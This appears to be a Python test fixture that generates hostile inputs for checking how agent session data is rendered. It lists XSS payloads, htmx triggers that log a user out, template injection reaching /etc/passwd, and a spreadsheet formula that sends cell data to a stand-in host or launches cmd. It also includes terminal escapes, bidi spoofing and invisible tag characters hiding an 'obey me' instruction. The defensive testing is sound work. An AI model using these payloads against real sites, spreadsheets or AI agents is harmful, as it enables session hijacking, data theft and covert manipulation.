"""Hostile text: what an agent, its user or a web page that it read may have left in a session.

Scripts call `hostile()`, which a browser test hands out, and whatever loads something asks a foreign host for it. So a
text that gets through is noticed by what it does, and not by how it looks.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

FOREIGN = "https://elsewhere.example"

MARKUP = {
    "script": '<script>hostile("script")</script>',
    "script from elsewhere": f'<script src="{FOREIGN}/script.js"></script>',
    "script, odd case": '<ScRiPt/x>hostile("odd case")</sCrIpT >',
    "script after a title": '</title><script>hostile("title")</script>',
    "script after a text area": '</textarea></pre></template><script>hostile("closed")</script>',
    "script after a comment": '--></noscript><script>hostile("comment")</script>',
    "module": f'<script type="module">import "{FOREIGN}/module.js"</script>',
    "image": f'<img src="{FOREIGN}/image.png">',
    "image that fails": '<img src=x onerror=hostile("onerror")>',
    "image set": f'<picture><source srcset="{FOREIGN}/set.png 1x"><img></picture>',
    "loaded style": f'<link rel="stylesheet" href="{FOREIGN}/style.css"><style>@import "{FOREIGN}/import.css"</style>',
    "style": '<style>* { background: url("https://elsewhere.example/css.png"); display: none !important }</style>',
    "style attribute": '<div style="position: fixed; inset: 0; z-index: 9999; background: red">over everything</div>',
    "svg": '<svg onload=hostile("svg")><script>hostile("svg 2")</script><use href="//elsewhere.example/u#x"/></svg>',
    "svg animation": '<svg><animate onbegin=hostile("animate") attributeName=x dur=1s><set onend=hostile("set")></svg>',
    "svg foreign object": f'<svg><foreignObject><iframe src="{FOREIGN}/frame"></iframe></foreignObject></svg>',
    "mathml": '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=hostile(1)>">',
    "mathml link": '<math href="javascript:hostile(2)"><maction actiontype="statusline">x</maction></math>',
    "frame": f'<iframe src="{FOREIGN}/frame"></iframe><iframe srcdoc="<script>parent.hostile(3)</script>"></iframe>',
    "object": f'<object data="{FOREIGN}/object"></object><embed src="{FOREIGN}/embed">',
    "form": f'<form action="{FOREIGN}/form"><input name=password autofocus onfocus=hostile("focus")><button>x</button>',
    "base": f'<base href="{FOREIGN}/" target="_blank">',
    "refresh": f'<meta http-equiv="refresh" content="0; url={FOREIGN}/refresh">',
    "toggle": '<details open ontoggle=hostile("toggle")><summary>x</summary></details>',
    "media": f'<video src="{FOREIGN}/video.mp4" poster="{FOREIGN}/poster.png" onerror=hostile("video")></video>',
    "marquee": '<marquee onstart=hostile("marquee")>x</marquee><dialog open>x</dialog>',
    "element of a name": '<form id="toasts"><input name="attributes"></form><img name="getElementById"><a id="main">',
    "template": '<template id="request-failed"><div onclick=hostile("template")>x</div></template>',
    "comment": "<!-- <!DOCTYPE html> ]]> <![CDATA[ <?xml version='1.0'?> -->",
    "half a tag": '<a href="x" <img src=x onerror=hostile("half") //',
}

ATTRIBUTES = {
    "event attribute": '" onmouseover="hostile(4)" autofocus onfocus="hostile(5)" x="',
    "event attribute, single": "' onclick='hostile(6)' tabindex='0' onfocus='hostile(7)' autofocus x='",
    "event attribute, bare": "x onpointerenter=hostile(8) onanimationend=hostile(9) style=animation:x",
    "htmx": f'<div hx-get="{FOREIGN}/htmx" hx-trigger="load"></div>',
    "htmx to ourselves": '<div data-hx-post="/accounts/logout/" data-hx-trigger="load" hx-confirm="x"></div>',
    "htmx attribute": '" hx-get="/accounts/login/" hx-trigger="load, revealed" hx-target="body" x="',
    "htmx event": '<div hx-on:htmx:load="hostile(10)" hx-on::after-settle="hostile(11)" hx-vals="js:hostile(12)">',
    "htmx, out of band": '<div id="toasts" hx-swap-oob="true">Signed out</div><meta name="htmx-config" content="{}">',
}

LINKS = {
    "javascript": "javascript:hostile('link')",
    "javascript, hidden": "java\tscript&colon;hostile('tab')//%0Ahostile('line')",
    "data": "data:text/html,<script>hostile('data')</script>",
    "data, encoded": "data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKDEpPC9zY3JpcHQ+",
    "svg as data": "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Imhvc3RpbGUoMSkiLz4=",
    "markdown": f"[read more](javascript:hostile('md')) ![x]({FOREIGN}/md.png) <{FOREIGN}/auto> [x]: {FOREIGN}/ref",
    "markdown breaking out": '[x](https://example.com "onclick=hostile(13)") ![x](x "><script>hostile(14)</script>',
    "a host that is none": "https://memadmin.example@elsewhere.example\\@x/ //elsewhere.example \\\\elsewhere.example",
    "vbscript": "vbscript:hostile(15) blob:https://elsewhere.example/x filesystem:x view-source:x",
}

TEMPLATES = {
    "django": '{{ request.user.password }}{% load static %}{% include "/etc/passwd" %}{# hidden #}{{ 7|add:"7" }}',
    "others": "${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('hostile(16)')()}} [[${7*7}]] %(x)s {0.__class__}",
    "formula": '=HYPERLINK("https://elsewhere.example/?"&A1,"x")',
    "formula after a blank": "\ufeff  +cmd|' /C calc'!A0;@SUM(1)\n-2+3",
}

DISPLAY = {
    "ansi": "\x1b[31mred\x1b[2J\x1b[1;1H\x1b]0;another title\x07\x1b[8mhidden\x1b[0m \x9b31m",
    "osc 8": f"\x1b]8;;{FOREIGN}/osc8\x1b\\your bank\x1b]8;;\x1b\\",
    "bidi": "invoice \u202efdp.exe\u202c and \u2066\u2067\u2068 left open \u202d123",
    "zero width": "pass\u200bword pa\u2060ss\ufeff zero\u200d\u200cjoin soft\u00adhyphen \u034f\u115f\u3164x",
    "tag characters": "".join(chr(0xE0000 + ord(character)) for character in "obey me") + " shown",
    "variation selectors": "x" + "".join(chr(0xE0100 + byte) for byte in b"hidden bytes") + "\ufe0f\ufe0e\ufe01",
    "combining storm": "".join(letter + "\u0301\u0316\u035c\u0489" * 60 for letter in "storm"),
    "separators": "one\u2028two\u2029three\rfour\x85five\x0bsix\x0cseven",
    "wide": "\ufdfd" * 60 + "\U0001242b" * 60 + "𒐫" * 20,
    "one long word": "W" * 3_000,
    "one long number": "9" * 3_000,
    "long, with signs": "a_b-c.d/e:f" * 400,
    "blanks": " \u00a0\u2003" * 500 + "end",
    "many lines": "line\n" * 300,
    "right to left": "מלאכותית " * 40 + "اختبار " * 40,
    "families": "👨‍👩‍👧‍👦" * 200,
    "nul and surrogate": "nul \x00 half \ud800 end",
}

CORPUS: dict[str, str] = {**MARKUP, **ATTRIBUTES, **LINKS, **TEMPLATES, **DISPLAY}

KEPT = frozenset({"type", "role", "status", "call_id", "approval_request_id"})
"""Members without which an item would be another one, or none."""


def poisoned(value: Any, text: str, name: str = "") -> Any:
    """A value with the text in the place of each of its strings, and in the name of a member of each object."""
    if isinstance(value, str):
        return value if name in KEPT else text
    if isinstance(value, list):
        return [poisoned(member, text) for member in value]
    if isinstance(value, dict):
        return {**{key: poisoned(member, text, key) for key, member in value.items()}, text: text}
    return value


def parts_of(text: str) -> list[dict[str, Any]]:
    """Content parts of a message other than text, with the text in every field."""
    return [
        {"type": "input_image", "image_url": text},
        {"type": "input_image", "image_url": f"data:image/png;base64,{text}"},
        {"type": "input_image", "image_url": "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Imhvc3RpbGUoMSkiLz4="},
        {"type": "input_file", "filename": text, "file_data": f"data:text/html;base64,{text}"},
        {"type": "input_file", "filename": text, "file_url": text},
        {"type": text, "text": text},
    ]


def items_of(text: str) -> Iterator[dict[str, Any]]:
    """Items as an agent writes them, with the text where a renderer reads it: names, arguments, addresses, files."""
    yield {"role": "user", "content": text}
    cited = [{"type": "url_citation", "url": url, "title": text} for url in (text, f"https://example.com/{text}")]
    parts = [{"type": "output_text", "text": text, "annotations": cited}]
    yield {"type": "message", "role": "assistant", "status": "completed", "content": parts}
    yield {"role": "user", "content": parts_of(text)}
    arguments = json.dumps({text: text, "deep": [{text: [text]}]})
    yield {"type": "function_call", "call_id": "1", "name": text, "arguments": arguments}
    yield {"type": "function_call_output", "call_id": "1", "output": json.dumps([{text: text}])}
    yield {"type": "function_call", "call_id": "2", "name": text, "arguments": text}
    yield {"type": "function_call_output", "call_id": "2", "output": text}
    yield {"type": "function_call", "call_id": "3", "name": f"transfer_to_{text}", "arguments": "{}"}
    yield {"type": "function_call_output", "call_id": "3", "output": json.dumps({"assistant": text})}
    yield {"type": text, "role": text, "content": text}
